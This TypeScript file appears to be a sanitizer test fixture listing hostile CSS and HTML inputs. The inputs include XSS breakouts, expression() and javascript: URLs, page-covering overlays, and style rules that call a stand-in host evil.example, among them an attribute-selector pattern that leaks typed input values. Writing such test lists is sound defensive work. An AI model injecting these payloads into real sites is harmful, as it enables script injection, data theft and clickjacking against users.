/** Forbidden styles: scripts, requests to other sites, and boxes that cover the page. */
const declarations = [
  "width: expression(alert(1))",
  "width: exp/**/ression(alert(1))",
  "color: \\65xpression(alert(1))",
  "background: url(javascript:alert(1))",
  "background-image: url('https://evil.example/x.png')",
  "background-image: image-set('https://evil.example/x.png' 1x)",
  "background-color: url(https://evil.example/)",
  "color: #aa0000; background: u\\72l(https://evil.example/)",
  "color: #aa0000/**/; position: fixed",
  "color: #aa0000 !important; position: fixed; inset: 0; z-index: 9999",
  "position: fixed; inset: 0; opacity: 0",
  "position: absolute; top: -9999px",
  "-moz-binding: url(https://evil.example/x.xml#a)",
  "behavior: url(https://evil.example/x.htc)",
  "list-style-image: url(https://evil.example/)",
  "content: url(https://evil.example/)",
  "cursor: url(https://evil.example/), auto",
  "filter: url(https://evil.example/#f)",
  "font-family: 'x;} * { display: none } x'",
  "color: var(--x, #aa0000)",
  "--x: url(https://evil.example/)",
  "color: #aa0000}*{display:none",
  'color: #aa0000" onclick="alert(1)',
  "color: #aa0000&quot; onclick=&quot;alert(1)",
  "color:\u0000#aa0000",
  "color: #aa00001",
  "COLOR: #AA0000; Background-Color: RED",
  "color: #aa0000; color: expression(alert(1))",
  "animation: spin 1s; transform: scale(99)",
  "display: none; visibility: hidden; font-size: 9999px",
];

const sheets = [
  "@import url(https://evil.example/a.css);",
  "@import 'https://evil.example/a.css';",
  "@charset 'utf-7'; +AEA-import 'https://evil.example/a.css';",
  "@font-face { font-family: x; src: url(https://evil.example/f.woff2) }",
  "input[value^=a] { background: url(https://evil.example/?a) }",
  "body { display: none }",
  "<!-- * { color: red } -->",
  "</style><img src=x onerror=alert(1)>",
  "</style/><script>alert(1)</script>",
  "*{}</STYLE\n><svg onload=alert(1)>",
];

/** Styles on an element that may have colours and on one that may have none; style sheets, open and closed. */
export const hostileStyles: readonly string[] = [
  ...declarations.map((style) => `<span style="${style}">x</span>`),
  ...declarations.map((style) => `<p style="${style}"><img src=/a alt=x style="${style}"></p>`),
  ...sheets.flatMap((sheet) => [`<style>${sheet}</style>x`, `<p>a<style media=all>${sheet}`]),
];
